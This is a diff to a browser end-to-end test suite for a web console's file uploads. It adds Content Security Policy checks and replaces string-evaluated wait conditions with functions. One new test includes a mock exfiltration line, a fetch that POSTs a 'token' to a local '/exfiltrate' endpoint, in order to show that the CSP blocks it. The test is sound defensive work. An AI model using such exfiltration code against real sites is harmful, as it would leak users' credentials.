@@ -56,6 +56,10 @@ describe('web console', () => {
   it('uploads dropped files with progress to 100%, shows PROCESSED and downloads the same bytes', async () => {
     // Arrange
     const page = await browser.newPage({ acceptDownloads: true });
+    const violations: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
     await signIn(page, await tokenFor(runtime, uniqueUser('console')));
     const pdf = samples.pdf();
     const [pdfPath, pngPath] = filesOnDisk([
@@ -68,9 +72,10 @@ describe('web console', () => {
     await (await chooser).setFiles([pdfPath!, pngPath!]);
     // Assert
     const card = page.locator('li.upload', { hasText: 'report.pdf' });
-    await waitInPage(
-      page,
-      "[...document.querySelectorAll('li.upload')].every((li) => li.dataset.status === 'PROCESSED')",
+    await waitInPage(page, () =>
+      Array.from((globalThis as unknown as PageWindow).document.querySelectorAll('li.upload')).every(
+        (li) => li.getAttribute('data-status') === 'PROCESSED',
+      ),
     );
     const bars = page.locator('li.upload progress');
     expect([await bars.nth(0).getAttribute('value'), await bars.nth(1).getAttribute('value')]).toEqual([
@@ -87,6 +92,32 @@ describe('web console', () => {
     const href = await link.getAttribute('href');
     const downloaded = Buffer.from(await (await fetch(href!)).arrayBuffer());
     expect(downloaded.equals(pdf)).toBe(true);
+    expect(violations).toEqual([]); // uploads to S3 and API calls all pass the CSP
+    await page.close();
+  });
+
+  it('runs under the deployed CSP: only its own origin and the upload endpoint are reachable', async () => {
+    // Arrange
+    const page = await browser.newPage();
+    const violations: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    const response = await page.goto(runtime.apiUrl);
+    // Act: a script tries to send data to another origin (a stolen token's way out).
+    const outcome = await page.evaluate(() =>
+      fetch('http://127.0.0.1:9/exfiltrate', { method: 'POST', body: 'token' }).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    );
+    // Assert
+    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toMatch(
+      /connect-src 'self' http:\/\/127\.0\.0\.1:\d+$/,
+    );
+    expect(outcome).toBe('blocked');
+    expect(violations.join('\n')).toMatch(/connect-src/);
     await page.close();
   });
 
@@ -99,7 +130,13 @@ describe('web console', () => {
     await page.locator('#file-input').setInputFiles([spoofed!]);
     // Assert
     const card = page.locator('li.upload', { hasText: 'invoice.pdf' });
-    await waitInPage(page, "document.querySelector('li.upload')?.getAttribute('data-status') === 'REJECTED'");
+    await waitInPage(
+      page,
+      () =>
+        (globalThis as unknown as PageWindow).document
+          .querySelector('li.upload')
+          ?.getAttribute('data-status') === 'REJECTED',
+    );
     expect(await card.locator('.reasons li[data-code="TYPE_MISMATCH"]').textContent()).toBe(
       'The content of the file does not match its type.',
     );
@@ -117,7 +154,10 @@ describe('web console', () => {
     await ownerPage.locator('#file-input').setInputFiles([csvPath!]);
     await waitInPage(
       ownerPage,
-      "document.querySelector('li.upload')?.getAttribute('data-status') === 'PROCESSED'",
+      () =>
+        (globalThis as unknown as PageWindow).document
+          .querySelector('li.upload')
+          ?.getAttribute('data-status') === 'PROCESSED',
     );
     await ownerPage.close();
     const page = await browser.newPage({ acceptDownloads: true, viewport: { width: 390, height: 844 } });
@@ -149,18 +189,30 @@ describe('web console', () => {
 });
 
 /**
- * Waits, with a deadline, until a condition written as page-side JavaScript holds. (Passed as a
- * string: it runs in the browser, not in this Node process.)
+ * The page's DOM, typed just enough for the conditions below (this tier compiles without the DOM
+ * lib). Page functions are sent to the browser as they are: each reaches it through globalThis.
  */
-async function waitInPage(page: Page, condition: string, timeout = 60_000): Promise<void> {
+interface PageWindow {
+  document: {
+    querySelector(css: string): { getAttribute(name: string): string | null } | null;
+    querySelectorAll(css: string): ArrayLike<{ getAttribute(name: string): string | null }>;
+  };
+}
+
+/**
+ * Waits, with a deadline, until a condition holds in the page. A function, not a string: the
+ * console runs under its deployed CSP, which refuses string evaluation (no 'unsafe-eval').
+ */
+async function waitInPage(page: Page, condition: () => boolean, timeout = 60_000): Promise<void> {
   await page.waitForFunction(condition, undefined, { timeout });
 }
 
 /** Waits (with a deadline) until exactly `count` elements match. */
 async function waitForCount(page: Page, selector: string, count: number): Promise<void> {
-  await waitInPage(
-    page,
-    `document.querySelectorAll(${JSON.stringify(selector)}).length === ${count}`,
-    30_000,
+  await page.waitForFunction(
+    ([css, expected]) =>
+      (globalThis as unknown as PageWindow).document.querySelectorAll(css).length === expected,
+    [selector, count] as const,
+    { timeout: 30_000 },
   );
 }
